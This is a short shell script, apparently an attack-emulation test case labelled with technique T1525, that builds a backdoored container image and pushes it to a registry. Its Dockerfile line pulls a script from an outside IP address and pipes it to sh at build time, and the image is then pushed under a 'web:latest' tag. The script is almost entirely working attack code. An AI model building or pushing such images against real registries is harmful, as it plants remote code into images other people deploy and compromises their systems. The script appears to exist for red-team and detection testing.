# title: An image with a back door is built and pushed
# technique: T1525
# needs: docker

mkdir -p /opt/i && cd /opt/i
printf 'FROM alpine\nRUN wget -qO- http://192.88.99.7/x.sh | sh\n' >Dockerfile
timeout 5 docker build -t registry.example/web:latest . ; timeout 5 docker push registry.example/web:latest; true
